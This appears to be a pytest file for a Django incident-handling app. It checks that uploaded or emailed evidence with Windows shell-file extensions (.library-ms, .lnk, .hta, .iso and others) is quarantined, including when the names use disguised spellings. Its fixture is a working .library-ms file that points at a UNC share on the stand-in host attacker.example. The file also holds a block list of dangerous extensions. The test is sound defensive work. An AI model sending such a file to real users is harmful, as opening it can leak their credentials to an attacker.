"""Files whose name runs something on a double click (Windows shell formats, shortcuts,
disk images) are quarantined whatever their bytes look like, through both ways a person
sends evidence: the answer page and an email reply."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import reverse

from bench.payloads import png
from bench.replies import reply_mime
from incidents.models import Evidence
from tests.builders.answers import FIREFOX, land, links, settle
from tests.builders.inbound import AUTH, SECRET, deliver

pytestmark = pytest.mark.filterwarnings("ignore::anymail.exceptions.AnymailNotSupportedWarning")

SHELL_EXTENSIONS = [
    "library-ms", "searchConnector-ms", "appref-ms", "website", "url", "lnk", "scf",
    "desktop", "settingcontent-ms", "msc", "hta", "cpl", "reg", "iso", "img", "vhd", "vhdx",
    "one",
]  # fmt: skip

# What a .library-ms looks like: XML text, which the sniffer calls text/plain, a type the
# answer page accepts.
LIBRARY = (
    b'<?xml version="1.0" encoding="UTF-8"?>\r\n'
    b'<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">\r\n'
    b"<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
    b"<url>\\\\attacker.example\\share</url></simpleLocation></searchConnectorDescription>"
    b"</searchConnectorDescriptionList></libraryDescription>\r\n"
)


@pytest.fixture
def analyst_client(analyst) -> Client:
    client = Client()
    client.force_login(analyst)
    return client


def downloaded(client: Client, evidence: Evidence) -> tuple[str, str]:
    response = client.get(reverse("admin:incidents_evidence_download", args=[evidence.pk]))
    assert response.status_code == 200
    return response["Content-Disposition"], response["Content-Type"]


def answer_with_file(asked, outbox, committed, name: str, content: bytes) -> Evidence:
    request = asked("policy-violation")
    settle(request)
    browser = Client(HTTP_USER_AGENT=FIREFOX)
    land(browser, links(outbox[0])["yes"])
    upload = SimpleUploadedFile(name, content, content_type="text/plain")

    response = committed(browser.post, "/respond/", {"choice": "yes", "files": [upload]})

    assert response.status_code == 303
    return Evidence.objects.get(incident=request.incident)


@pytest.mark.parametrize("extension", SHELL_EXTENSIONS)
def test_it_quarantines_a_windows_shell_file_sent_through_the_answer_page(
    asked, outbox, committed, analyst_client, extension
):
    evidence = answer_with_file(asked, outbox, committed, f"report.{extension}", LIBRARY)

    assert (evidence.filename, evidence.detected_content_type) == (
        f"report.{extension}",
        "text/plain",
    )
    assert evidence.quarantine_reason == f"a .{extension.lower()} file can run code when opened"
    added = evidence.incident.timeline.get(kind="evidence.added")
    assert added.summary.endswith("(quarantined: download only)")
    assert downloaded(analyst_client, evidence) == (
        f'attachment; filename="report.{extension}.quarantined"',
        "application/octet-stream",
    )


@pytest.mark.parametrize(
    ("name", "stored"),
    [
        ("REPORT.LIBRARY-MS", "REPORT.LIBRARY-MS"),
        ("report.Library-Ms", "report.Library-Ms"),
        ("report.library-ms.", "report.library-ms"),
        ("report.library-ms . .", "report.library-ms"),
        ("invoice.pdf.library-ms", "invoice.pdf.library-ms"),
        ("invoice.txt.lnk", "invoice.txt.lnk"),
        ("a" * 200 + ".settingcontent-ms", "a" * 102 + ".settingcontent-ms"),
    ],
    ids=["upper-case", "mixed-case", "trailing-dot", "trailing-dots-and-spaces",
         "double-extension", "double-extension-lnk", "long-name"],
)  # fmt: skip
def test_it_quarantines_the_name_windows_would_open_whatever_its_spelling(
    asked, outbox, committed, analyst_client, name, stored
):
    evidence = answer_with_file(asked, outbox, committed, name, LIBRARY)

    assert evidence.filename == stored
    assert evidence.quarantined
    disposition, _ = downloaded(analyst_client, evidence)
    assert disposition == f'attachment; filename="{stored}.quarantined"'


def test_an_image_named_as_a_shortcut_is_quarantined_not_previewed(
    asked, outbox, committed, analyst_client
):
    evidence = answer_with_file(asked, outbox, committed, "screen.png.lnk", png(side=20))

    assert evidence.detected_content_type == "image/png"
    assert evidence.quarantined and not evidence.previewable
    preview = reverse("admin:incidents_evidence_preview", args=[evidence.pk])
    assert analyst_client.get(preview).status_code == 404


@override_settings(ANYMAIL={"WEBHOOK_SECRET": SECRET})
@pytest.mark.parametrize("extension", SHELL_EXTENSIONS)
def test_it_quarantines_a_windows_shell_file_attached_to_an_email_reply(
    asked, committed, client, analyst_client, extension
):
    request = asked("policy-violation")
    raw = reply_mime(
        request, "Yes", attachments=((f"report.{extension}", "application/octet-stream", LIBRARY),)
    )

    response = deliver(committed, client, "postmark-raw", raw, auth=AUTH)

    assert response.status_code == 200
    evidence = Evidence.objects.get(incident=request.incident)
    assert evidence.source == Evidence.Source.EMAIL_REPLY
    assert evidence.filename == f"report.{extension}"
    assert evidence.quarantine_reason == f"a .{extension.lower()} file can run code when opened"
    assert downloaded(analyst_client, evidence) == (
        f'attachment; filename="report.{extension}.quarantined"',
        "application/octet-stream",
    )


@override_settings(ANYMAIL={"WEBHOOK_SECRET": SECRET})
def test_a_shell_file_with_trailing_dots_in_an_email_reply_is_quarantined(asked, committed, client):
    request = asked("policy-violation")
    raw = reply_mime(
        request, "Yes", attachments=(("Report.Library-MS. .", "application/octet-stream", LIBRARY),)
    )

    deliver(committed, client, "sendgrid", raw, auth=AUTH)

    evidence = Evidence.objects.get(incident=request.incident)
    assert (evidence.filename, evidence.quarantined) == ("Report.Library-MS", True)
